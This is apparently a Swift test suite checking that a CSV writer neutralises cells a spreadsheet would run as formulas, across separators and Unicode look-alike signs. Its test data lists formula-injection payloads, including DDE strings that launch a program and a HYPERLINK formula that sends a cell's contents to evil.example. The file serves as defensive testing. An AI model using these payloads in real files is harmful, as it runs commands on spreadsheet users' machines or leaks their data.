import ByteText
import StructuredText
import Testing

/// What a spreadsheet would run: in every table that the programs write, whichever sign the spreadsheet takes for the border of cells.
@Suite struct SpreadsheetTests {
    static let formulas = [
        "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "@SUM(A1:A9)", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+cmd", "－1+cmd", "＠SUM(A1)", "x;=1+1", "x,=1+1", "x\t=1+1", "x\n=1+1", "x;\"=1+1", "\"=1+1", "x;;-1+cmd", "=\u{0}1",
    ]

    @Test(arguments: formulas, [UInt8.comma, .semicolon, .tab])
    func `no cell of a written table begins like a formula, whatever separates the cells`(formula: String, separator: UInt8) {
        var csv = CSVWriter()
        csv.row(["id", formula, "text, " + formula, "\"" + formula])
        for cell in Self.cells(csv.bytes, separator) { #expect(!Self.wouldRun(cell), "\(cell)") }
        // Nothing is lost: without the apostrophes it is the value again.
        var reader = CSVReader(Array("a,b,c,d\r\n".utf8) + csv.bytes, path: "")
        let hasRow = reader.nextRow()
        #expect(hasRow)
        #expect(reader.string(1).replacing("'", with: "") == formula.replacing("'", with: ""))
    }

    @Test(arguments: ["+66 81 234 5678", "+7 (912) 345-67-89", "-1.5", "-12", "a=b", "a@b.example", "1-2", "KTM482", "Анна; +66 81 234 5678", "—"])
    func `numbers, addresses and texts stay as they are`(value: String) {
        var csv = CSVWriter()
        csv.row([value])
        #expect(!csv.bytes.contains(.apostrophe))
    }

    /// Rows and cells as a spreadsheet of any country takes them: quotes count at the beginning of a cell alone.
    static func cells(_ bytes: [UInt8], _ separator: UInt8) -> [String] {
        var cells: [String] = []
        var cell: [UInt8] = []
        var isQuoted = false
        var index = 0
        while index < bytes.count {
            let byte = bytes[index]
            if isQuoted {
                if byte == .quote, index + 1 < bytes.count, bytes[index + 1] == .quote {
                    cell.append(.quote)
                    index += 1
                } else if byte == .quote { isQuoted = false } else { cell.append(byte) }
            } else if byte == .quote, cell.isEmpty {
                isQuoted = true
            } else if byte == separator || byte == .lineFeed || byte == .carriageReturn {
                cells.append(String(decoding: cell, as: UTF8.self))
                cell = []
            } else {
                cell.append(byte)
            }
            index += 1
        }
        return cells + [String(decoding: cell, as: UTF8.self)]
    }

    static func wouldRun(_ cell: String) -> Bool {
        guard let first = cell.unicodeScalars.first, "=+-@\t\r\n＝＋－＠".unicodeScalars.contains(first) else { return false }
        let rest = cell.dropFirst()
        return rest.contains { !($0.isNumber || " ().-".contains($0)) } || !(rest.first?.isNumber ?? false)
    }
}
